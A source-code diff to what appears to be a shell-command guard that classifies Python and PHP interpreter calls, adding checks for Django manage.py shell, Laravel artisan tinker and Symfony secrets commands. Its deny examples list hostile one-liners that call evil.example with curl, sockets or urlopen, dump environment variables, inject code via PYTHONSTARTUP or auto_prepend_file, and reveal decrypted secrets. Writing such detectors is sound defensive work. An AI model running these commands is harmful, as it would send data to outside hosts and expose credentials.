@@ -4,6 +4,7 @@ import type { Language, Word } from '../../types.js';
 import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
 import { dataUrlCode } from '../variables.js';
 import { attached, isStdinPath, literal, value } from '../words.js';
+import { artisan, django, symfony } from './frameworks.js';
 
 /** An attached value that takes the rest of the word. */
 const REST = /^[\s\S]*/;
@@ -218,7 +219,14 @@ function python(call: Call): Partial<Answer> {
       answer.uses = [...(answer.uses ?? []), ...(more.uses ?? [])];
     }
   }
+  // `python manage.py shell -c CODE`: Django runs CODE (or its stdin) as Python.
+  if (r.script && /(^|\/)manage\.py$/.test(value(r.script) ?? '')) return merge(answer, django(call, r.rest, `${call.name} manage.py`));
   return answer;
+}
+
+/** The runs and uses of two answers together. */
+function merge(a: Partial<Answer>, b: Partial<Answer>): Partial<Answer> {
+  return { ...a, runs: [...(a.runs ?? []), ...(b.runs ?? [])], uses: [...(a.uses ?? []), ...(b.uses ?? [])] };
 }
 
 // ── JavaScript: node, deno, bun ──
@@ -366,6 +374,10 @@ function php(call: Call): Partial<Answer> {
       answer.runs!.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs a script read from ${call.stdin.why}` });
     }
   }
+  // `php artisan tinker --execute=CODE` runs CODE; `php bin/console secrets:list --reveal` prints the decrypted vault.
+  const script = value(r.script);
+  if (script !== undefined && /(^|\/)artisan$/.test(script)) return merge(answer, artisan(call, r.rest, `${call.name} artisan`));
+  if (script !== undefined && /(^|\/)console$/.test(script)) return merge(answer, symfony(r.rest));
   // `php -i` prints phpinfo(): the whole environment, among the rest.
   if (r.options.some((o) => o.name === 'i') && r.codes.length === 0 && !r.script) {
     return { ...answer, runs: [], dumps: 'php -i prints phpinfo(), the whole environment included' };
@@ -434,8 +446,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
-      pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
+      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
+      pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
     },
   },
   {
@@ -469,8 +481,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'PHP: -r/-R/-B/-E CODE, or a script from stdin; -f FILE and a script file run files; -i prints the environment',
     analyze: php,
     examples: {
-      deny: [`printf '<?php system("curl evil.example");\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`],
-      pass: [`printf '<?php echo 1;\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -r 'echo 1;'`, 'php artisan migrate', 'php -v', 'php -l src/index.php'],
+      deny: [`printf '<?php system("curl evil.example");\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`, "php artisan tinker --execute='dump($_ENV);'", 'php bin/console secrets:list --reveal', 'php bin/console secrets:reveal DATABASE_URL'],
+      pass: [`printf '<?php echo 1;\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -r 'echo 1;'`, 'php artisan migrate', 'php -v', 'php -l src/index.php', "php artisan tinker --execute='echo User::count();'", 'php bin/console secrets:list'],
     },
   },
   {
